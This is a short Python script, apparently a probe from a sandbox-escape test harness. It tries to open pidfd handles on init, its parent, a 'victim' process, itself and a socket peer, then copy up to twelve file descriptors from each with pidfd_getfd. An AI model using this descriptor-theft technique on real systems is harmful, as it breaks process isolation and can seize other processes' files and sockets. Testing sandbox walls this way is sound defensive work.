"""Takes open files out of init, the victim and the other end of its socket by handles on their processes."""
# walls: seccomp pid_namespace
# observe: word unread
# depth: yes
# with: calls
import ctypes
import os
import socket

PIDFD_OPEN, PIDFD_GETFD = 434, 438
SO_PEERPIDFD = 77

handles = {}
for number in {1, os.getppid(), aim.victim, os.getpid()} - {0}:
    handle = libc.syscall(ctypes.c_long(PIDFD_OPEN), ctypes.c_long(number), ctypes.c_long(0))
    if handle >= 0:
        handles[f"process {number}"] = handle
    else:
        tried(f"a handle on {number}: {os.strerror(ctypes.get_errno())}")
with socket.socket(fileno=os.dup(3)) as control:
    try:
        handles["the other end"] = control.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    except OSError as error:
        tried(f"a handle on the other end: {error.strerror}")

for name, handle in handles.items():
    for wanted in range(12):
        error = call(PIDFD_GETFD, handle, wanted, 0)
        if error is None:
            gained(f"descriptor {wanted} of {name}")
    tried(f"descriptors of {name}: {error}")
